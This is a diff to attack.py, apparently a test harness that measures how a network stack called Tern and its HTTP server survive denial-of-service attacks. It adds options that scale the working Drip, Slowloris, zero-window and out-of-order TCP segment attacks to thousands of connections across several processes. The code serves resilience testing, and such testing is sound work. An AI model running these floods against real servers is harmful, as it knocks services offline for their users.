@@ -7,8 +7,8 @@ third-party module.
   attack.py monitor PREFIX OUT_JSONL NOW_FILE     sample Tern every 0.5 s until SIGTERM
   attack.py pool PREFIX                            mbufs of tern_pool_0 in use, once
   attack.py legit-http|legit-echo DST PORT SRC SECONDS OUT_JSON [UNTIL_FILE]
-  attack.py drip|zerowin|slowloris DST PORT SRC[,SRC...] SECONDS [--connections N]
-  attack.py ooo DST PORT SRC IFACE SECONDS [--connections N] [--segments N] [--pps N]
+  attack.py drip|zerowin|slowloris DST PORT SRC[,SRC...] SECONDS [--connections N] [--interval-ms N] [--procs N]
+  attack.py ooo DST PORT SRC[,SRC...] IFACE SECONDS [--connections N] [--segments N] [--pps N] [--procs N]
   attack.py blind DST PORT SRC IFACE SECONDS [--pps N]
   attack.py frags DST NET IFACE PREFIX SECONDS [--pps N]
   attack.py cleanup NOW_FILE LIMIT_S POOL_BASE SLACK ESTAB SINCE_EPOCH
@@ -18,9 +18,19 @@ Attackers print "stopped <epoch>" once their attack phase ends and then keep
 whatever they hold (sockets stay open, unread and silent) until SIGTERM, when
 they print "summary <json>". Kernel-socket attackers reopen connections Tern
 ends during the attack phase, as a persistent attacker would.
+
+--interval-ms: the time between one connection's bytes (drip, default 2;
+slowloris, default 1,500). --procs N splits an attack over N worker
+processes (bench/attack: thousands of connections), each with its share of
+the connections (and of ooo's --pps) and its own source address(es) of the
+list (SRC[i::N]; ooo uses one source address a worker, the first of one
+SRC without a list); they start together (ooo: once every worker's
+connections are open and learned) and speak as one attacker (one
+"stopped", one summary with the counts summed).
 """
 import collections
 import errno
+import itertools
 import json
 import os
 import random
@@ -201,7 +211,12 @@ class KernelAttack:
     the SRC addresses in turn); on_connect(conn) starts each, tick(conn, now)
     runs every `every` seconds per connection. A connection Tern ends (FIN or
     RST: EPOLLRDHUP/HUP/ERR) is closed with a RST and, during the attack phase,
-    replaced. Nothing is ever read."""
+    replaced. Nothing is ever read. The ticks come from a queue in order of
+    their due time (each connection re-queued `every` s after its tick), so
+    a round costs what is due, not a pass over every connection: thousands of
+    connections tick on one CPU. The summary counts the ticks and how late
+    they came (lag: the time past their due time), which tells whether the
+    attacker kept its pace."""
 
     def __init__(self, dst, port, srcs, n, rcvbuf=None, nodelay=False, every=None):
         self.dst, self.port, self.srcs, self.n = dst, port, srcs, n
@@ -211,6 +226,9 @@ class KernelAttack:
         self.opened = self.connected = self.ended = self.refused = 0
         self.sent = 0
         self.k = 0
+        self.due = collections.deque()  # connections in order of c["next"]
+        self.ticks = 0
+        self.lag_sum = self.lag_max = 0.0
 
     def open_one(self):
         s = socket.socket()
@@ -235,6 +253,7 @@ class KernelAttack:
 
     def close(self, fd):
         c = self.conns.pop(fd)
+        c["closed"] = True  # the due queue drops it when its turn comes
         self.ep.unregister(fd)
         c["s"].close()  # SO_LINGER 0: a RST, so the port is free again at once
 
@@ -265,6 +284,8 @@ class KernelAttack:
                 if attacking:
                     self.on_connect(c)
                 c["next"] = time.monotonic() + (self.every or 0)
+                if self.every and attacking:
+                    self.due.append(c)
 
     def send(self, c, data):
         try:
@@ -284,10 +305,18 @@ class KernelAttack:
             self.poll(0.002 if self.every and self.every < 0.1 else 0.01, True)
             if self.every:
                 now = time.monotonic()
-                for c in list(self.conns.values()):
-                    if c["up"] and c["next"] <= now:
-                        self.tick(c, now)
-                        c["next"] = now + self.every
+                due = self.due
+                while due and due[0]["next"] <= now:
+                    c = due.popleft()
+                    if c.get("closed"):
+                        continue
+                    lag = now - c["next"]
+                    self.ticks += 1
+                    self.lag_sum += lag
+                    self.lag_max = max(self.lag_max, lag)
+                    self.tick(c, now)
+                    c["next"] = now + self.every
+                    due.append(c)
         out("stopped %f" % time.time())
         # The attacker goes silent, its sockets stay open and unread: only
         # Tern's own limits can end these connections now.
@@ -305,7 +334,10 @@ class KernelAttack:
         out("summary " + json.dumps({
             "opened": self.opened, "connected": self.connected, "ended_by_tern": self.ended,
             "refused_or_failed": self.refused, "bytes_sent": self.sent, "alive_at_stop": alive_at_stop,
-            "alive_at_end": self.alive(), "last_end_after_stop_s": round(last_end, 2) if last_end else None}))
+            "alive_at_end": self.alive(), "last_end_after_stop_s": round(last_end, 2) if last_end else None,
+            "ticks": self.ticks, "lag_mean_ms": round(1000 * self.lag_sum / self.ticks, 1) if self.ticks else None,
+            "lag_max_ms": round(1000 * self.lag_max, 1), "interval_ms": round(1000 * (self.every or 0), 1),
+            "seconds": seconds}))
 
     def alive(self):
         return sum(1 for c in self.conns.values()
@@ -314,11 +346,17 @@ class KernelAttack:
 
 class Drip(KernelAttack):
     """Case 1: SO_RCVBUF 4096, TCP_NODELAY, a request for 1 GiB whose response
-    is never read, then one byte every 2 ms of a head that never ends."""
-    HEAD = b"GET /bytes/1073741824 HTTP/1.1\r\nHost: t\r\n\r\nGET /bytes/1 HTTP/1.1\r\nX-Pad: "
+    is never read, then one byte every 2 ms of a head that never ends. Paced
+    slower than that (--interval-ms, bench/attack's thousands of
+    connections), the first request goes at once, so that each connection
+    holds a response (and a slot tern-httpd does not evict for a newcomer)
+    from the start rather than after 45 intervals; only the second head drips."""
+    FIRST = b"GET /bytes/1073741824 HTTP/1.1\r\nHost: t\r\n\r\n"
+    HEAD = FIRST + b"GET /bytes/1 HTTP/1.1\r\nX-Pad: "
 
     def on_connect(self, c):
-        pass
+        if self.every > 0.002:
+            c["off"] += self.send(c, self.FIRST)
 
     def tick(self, c, now):
         b = self.HEAD[c["off"]:c["off"] + 1] if c["off"] < len(self.HEAD) else b"a"
@@ -423,7 +461,9 @@ def learn(sniff, src, dst, port, sports, timeout=3.0):
         nxt = seq + ln + (1 if flags & 0x03 else 0)  # SYN or FIN take a sequence number
         st[sport] = {"eth": frame[:14], "nxt": nxt & 0xFFFFFFFF, "ack": ack, "win": win, "tsval": tsval,
                      "tsecr": tsecr, "flags": flags}
-    raise SystemExit("could not learn the connections' sequence numbers: %d of %d seen" % (len(st), len(sports)))
+    e = SystemExit("could not learn the connections' sequence numbers: %d of %d seen" % (len(st), len(sports)))
+    e.partial = {k: v for k, v in st.items() if v["flags"] & 0x10}
+    raise e
 
 
 def sniffer(iface):
@@ -444,10 +484,13 @@ def sender(iface):
 def send_all(tx, frames, end, pps=None):
     """Sends frames in turn until `end` (monotonic), at most PPS a second
     (bursts every millisecond) or as fast as they go; a full device queue
-    waits. Returns the count."""
+    waits. FRAMES: a list (sent round and round) or an endless iterator.
+    Returns the count."""
     n = 0
     t0 = time.monotonic()
-    i = 0
+    if isinstance(frames, list):
+        frames = itertools.cycle(frames)
+    frame = next(frames)
     while True:
         now = time.monotonic()
         if now >= end:
@@ -461,9 +504,9 @@ def send_all(tx, frames, end, pps=None):
             due = 256
         for _ in range(due):
             try:
-                tx.send(frames[i])
+                tx.send(frame)
                 n += 1
-                i = (i + 1) % len(frames)
+                frame = next(frames)
             except OSError as e:
                 if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                     raise
@@ -481,40 +524,114 @@ def hold_until_term(summary):
     out("summary " + json.dumps(summary))
 
 
-def ooo(dst, port, src, iface, seconds, n=28, segs=256, pps=14000):
+def seg_builder(src_b, dst_b, sport, port, c):
+    """A function SEQ -> the frame of a one-byte data segment ("x") of the
+    connection learned in C (its Ethernet header, ACK, window, timestamps)
+    at sequence number SEQ. The frame is built once; only the sequence number
+    and the TCP checksum change (the ones' complement sum is linear), so
+    hundreds of thousands of segments cost little."""
+    seg = tcp(src_b, dst_b, sport, port, 0, c["ack"], 0x18, c["win"],
+              ts_option(c["tsval"], c["tsecr"]) if c["tsval"] is not None else b"", b"x")
+    frame = bytearray(c["eth"] + ipv4(src_b, dst_b, 6, seg, 0))
+    t = 14 + 20
+    base = ~struct.unpack("!H", frame[t + 16:t + 18])[0] & 0xFFFF  # the sum with SEQ 0
+
+    def build(seq):
+        seq &= 0xFFFFFFFF
+        x = base + (seq >> 16) + (seq & 0xFFFF)
+        x = (x & 0xFFFF) + (x >> 16)
+        x = (x & 0xFFFF) + (x >> 16)
+        struct.pack_into("!I", frame, t + 4, seq)
+        struct.pack_into("!H", frame, t + 16, ~x & 0xFFFF)
+        return bytes(frame)
+    return build
+
+
+def ooo(dst, port, src, iface, seconds, n=28, segs=256, pps=14000, ready=None):
     """Case 2: N kernel connections that send nothing; for each, one-byte
     segments at SND.NXT+1, +3, +5, ... (a hole at SND.NXT, every other byte
     beyond it), SEGS per connection per round, four rounds of different
     offsets, PPS segments a second (a round every half second: the
     point is the memory they hold, not the link's capacity). Timestamps and ACK copied from the
-    connection, so only the hole makes them out of order."""
+    connection, so only the hole makes them out of order. The connections
+    open 256 at a time (non-blocking), each batch's handshakes learned from
+    the sniffer before the next (so that thousands fit its buffer); one that
+    fails to open or to be learned is left out (and counted). READY, if
+    given, is called once every connection is set up (--procs: the workers
+    start sending together)."""
     dst_b, src_b = socket.inet_aton(dst), socket.inet_aton(src)
     sn = sniffer(iface)
-    base = 40000 + random.randrange(10000)
-    conns = []
-    for i in range(n):
-        s = socket.socket()
-        s.bind((src, base + i))
-        s.connect((dst, port))
-        conns.append(s)
-    st = learn(sn, src_b, dst_b, port, set(range(base, base + n)))
+    conns, st, failed = [], {}, 0
+    for b0 in range(0, n, 256):
+        batch = {}
+        ep = select.epoll()
+        for _ in range(b0, min(n, b0 + 256)):
+            s = socket.socket()
+            s.setblocking(False)
+            try:
+                s.bind((src, 0))
+                s.connect_ex((dst, port))
+            except OSError:
+                s.close()
+                failed += 1
+                continue
+            batch[s.fileno()] = s
+            ep.register(s.fileno(), select.EPOLLOUT)
+        end = time.monotonic() + 5
+        pending = set(batch)
+        while pending and time.monotonic() < end:
+            for fd, _ in ep.poll(0.1):
+                pending.discard(fd)
+                ep.unregister(fd)
+        ep.close()
+        up = []
+        for fd, s in batch.items():
+            if fd in pending or s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
+                s.close()
+                failed += 1
+            else:
+                s.setblocking(True)
+                up.append(s)
+        sports = {s.getsockname()[1]: s for s in up}
+        try:
+            got = learn(sn, src_b, dst_b, port, set(sports))
+        except SystemExit as e:
+            if n <= 256:
+                raise  # the test's few connections: every one must be learned
+            got = getattr(e, "partial", {})
+        for sport, s in sports.items():
+            conns.append(s)  # kept open either way: the attacker leaves them at the end
+            if sport in got:
+                st[sport] = got[sport]
+            else:
+                failed += 1
     sn.close()
-    rounds = []
-    for r in range(4):
-        frames = []
-        for k in range(segs):
-            for sport, c in st.items():
-                seq = c["nxt"] + 1 + 2 * (r * segs + k)
-                seg = tcp(src_b, dst_b, sport, port, seq, c["ack"], 0x18, c["win"],
-                          ts_option(c["tsval"], c["tsecr"]) if c["tsval"] is not None else b"", b"x")
-                frames.append(c["eth"] + ipv4(src_b, dst_b, 6, seg, random.randrange(65536)))
-        rounds.append(frames)
+    if not st:
+        raise SystemExit("ooo: no connection opened and learned (%d failed)" % failed)
+    if failed:
+        out("ooo: %d of %d connections opened and learned; %d failed" % (len(st), n, failed))
+    builders = [seg_builder(src_b, dst_b, sport, port, c) for sport, c in st.items()]
+    nxt = [c["nxt"] for c in st.values()]
+
+    def frames():
+        # Round by round, segment k of every connection, then k+1: each
+        # connection's segments spread over the round.
+        while True:
+            for r in range(4):
+                for k in range(segs):
+                    off = 1 + 2 * (r * segs + k)
+                    for b, x in zip(builders, nxt):
+                        yield b(x + off)
+
+    if ready:
+        ready()
     tx = sender(iface)
-    sent = send_all(tx, [f for r in rounds for f in r], time.monotonic() + seconds, pps)
+    sent = send_all(tx, frames(), time.monotonic() + seconds, pps)
     t_stop = time.time()
     for s in conns:  # the attacker leaves: FIN at the hole
         s.close()
-    hold_until_term({"connections": n, "segments_sent": sent, "pps": round(sent / seconds)})
+    hold_until_term({"connections": len(st), "failed": failed, "segments_sent": sent,
+                     "pps": round(sent / seconds)})
     return t_stop
 
 
@@ -740,6 +857,143 @@ def verdict(case, d):
     return 0 if ok else 1
 
 
+# ---- --procs: one attack split over several processes ----------------------------
+
+
+def worker_share(n, procs, i):
+    """Worker I's part of N connections split over PROCS workers."""
+    return n // procs + (1 if i < n % procs else 0)
+
+
+def worker_srcs(srcs, procs, i):
+    """Worker I's source addresses: every PROCS-th of SRCS from the I-th (one
+    address each when there are as many as workers: disjoint port spaces),
+    or the (I mod len)-th when there are fewer."""
+    return srcs[i::procs] if i < len(srcs) else [srcs[i % len(srcs)]]
+
+
+def merge_summaries(sums):
+    """One summary of the workers': counts summed; times, paces and spans
+    their largest; the mean lag weighted by the ticks."""
+    keep_max = {"last_end_after_stop_s", "lag_max_ms", "interval_ms", "seconds"}
+    r = {"procs": len(sums)}
+    for k in sorted({k for x in sums for k in x}):
+        vals = [x[k] for x in sums if isinstance(x.get(k), (int, float)) and not isinstance(x.get(k), bool)]
+        if k == "lag_mean_ms":
+            w = [(x.get("ticks") or 0, x[k]) for x in sums if x.get(k) is not None]
+            t = sum(a for a, _ in w)
+            r[k] = round(sum(a * b for a, b in w) / t, 1) if t else None
+        elif not vals:
+            r[k] = None
+        else:
+            r[k] = max(vals) if k in keep_max else sum(vals)
+    return r
+
+
+def run_procs(procs, worker):
+    """Runs worker(i, ready) in PROCS child processes and speaks for them as
+    one attacker: their other output prefixed "worker I: ", "stopped <epoch>"
+    once each has stopped (the latest), and on SIGTERM (passed on) one
+    summary, merge_summaries' of theirs. A worker calls ready() once set up
+    (it returns when every worker is: they attack together). The child's
+    stdout is a pipe to this process; its stderr is ours."""
+    stopping = []
+    signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
+    go_r, go_w = os.pipe()
+    kids = {}  # read end of the child's stdout -> (index, pid)
+    for i in range(procs):
+        r, w = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            code = 1
+            try:
+                signal.signal(signal.SIGTERM, on_term)
+                os.close(r)
+                os.close(go_w)
+                for other in kids:
+                    os.close(other)
+                os.dup2(w, 1)
+                os.close(w)
+
+                def ready():
+                    out("ready")
+                    os.read(go_r, 1)  # end of file once every worker is ready
+
+                code = worker(i, ready) or 0
+            except Stop:
+                code = 143
+            except SystemExit as e:
+                if isinstance(e.code, int):
+                    code = e.code
+                else:
+                    print("worker %d: %s" % (i, e.code), file=sys.stderr)
+            except BaseException:  # pylint: disable=broad-except
+                import traceback
+                traceback.print_exc()
+            sys.stdout.flush()
+            sys.stderr.flush()
+            os._exit(code)
+        os.close(w)
+        kids[r] = (i, pid)
+    os.close(go_r)
+    bufs = {r: b"" for r in kids}
+    live, ready, stopped, sums = set(kids), set(), {}, []
+    said_stop = termed = False
+    while live:
+        if stopping and not termed:
+            termed = True
+            for _, pid in kids.values():
+                try:
+                    os.kill(pid, signal.SIGTERM)
+                except ProcessLookupError:
+                    pass
+        try:
+            rl, _, _ = select.select(list(live), [], [], 0.2)
+        except InterruptedError:
+            continue
+        for r in rl:
+            data = os.read(r, 65536)
+            if not data:
+                live.discard(r)
+                os.close(r)
+                continue
+            bufs[r] += data
+            while b"\n" in bufs[r]:
+                line, bufs[r] = bufs[r].split(b"\n", 1)
+                line = line.decode(errors="replace")
+                if line == "ready":
+                    ready.add(r)
+                elif line.startswith("stopped "):
+                    stopped[r] = float(line.split()[1])
+                elif line.startswith("summary "):
+                    sums.append(json.loads(line[8:]))
+                else:
+                    out("worker %d: %s" % (kids[r][0], line))
+        if go_w is not None and all(r in ready or r not in live for r in kids):
+            os.close(go_w)
+            go_w = None
+        if not said_stop and stopped and all(r in stopped or r not in live for r in kids):
+            said_stop = True
+            out("stopped %f" % max(stopped.values()))
+    for _, pid in kids.values():
+        os.waitpid(pid, 0)
+    if sums:
+        out("summary " + json.dumps(merge_summaries(sums)))
+    return 0 if said_stop else 1
+
+
+def kernel_attack(cmd, dst, port, srcs, n, secs, interval_ms=None):
+    if cmd == "drip":
+        atk = Drip(dst, port, srcs, n, rcvbuf=4096, nodelay=True,
+                   every=interval_ms / 1000 if interval_ms else 0.002)
+    elif cmd == "zerowin":
+        atk = ZeroWindow(dst, port, srcs, n, rcvbuf=4096)
+    else:
+        atk = Slowloris(dst, port, srcs, n, every=interval_ms / 1000 if interval_ms else 1.5)
+    atk.run(secs)
+    return 0
+
+
 def main():
     a = sys.argv[1:]
     if not a:
@@ -756,6 +1010,7 @@ def main():
         else:
             pos.append(a[i])
             i += 1
+    procs = opt.get("procs", 1)
     if cmd == "monitor":
         return monitor(*pos)
     if cmd == "pool":
@@ -769,17 +1024,22 @@ def main():
         hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
         dst, port, srcs, secs = pos[0], int(pos[1]), pos[2].split(","), float(pos[3])
-        if cmd == "drip":
-            atk = Drip(dst, port, srcs, opt.get("connections", 8), rcvbuf=4096, nodelay=True, every=0.002)
-        elif cmd == "zerowin":
-            atk = ZeroWindow(dst, port, srcs, opt.get("connections", 200), rcvbuf=4096)
-        else:
-            atk = Slowloris(dst, port, srcs, opt.get("connections", 4500), every=1.5)
-        atk.run(secs)
-        return 0
+        n = opt.get("connections", {"drip": 8, "zerowin": 200, "slowloris": 4500}[cmd])
+        ivl = opt.get("interval-ms")
+        if procs > 1:
+            return run_procs(procs, lambda k, ready: kernel_attack(
+                cmd, dst, port, worker_srcs(srcs, procs, k), worker_share(n, procs, k), secs, ivl))
+        return kernel_attack(cmd, dst, port, srcs, n, secs, ivl)
     if cmd == "ooo":
-        ooo(pos[0], int(pos[1]), pos[2], pos[3], float(pos[4]), opt.get("connections", 28), opt.get("segments", 256),
-            opt.get("pps", 14000))
+        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+        srcs, n, segs, pps = pos[2].split(","), opt.get("connections", 28), opt.get("segments", 256), \
+            opt.get("pps", 14000)
+        if procs > 1:
+            return run_procs(procs, lambda k, ready: ooo(
+                pos[0], int(pos[1]), worker_srcs(srcs, procs, k)[0], pos[3], float(pos[4]),
+                worker_share(n, procs, k), segs, worker_share(pps, procs, k), ready))
+        ooo(pos[0], int(pos[1]), srcs[0], pos[3], float(pos[4]), n, segs, pps)
         return 0
     if cmd == "blind":
         blind(pos[0], int(pos[1]), pos[2], pos[3], float(pos[4]), opt.get("pps", 4000))
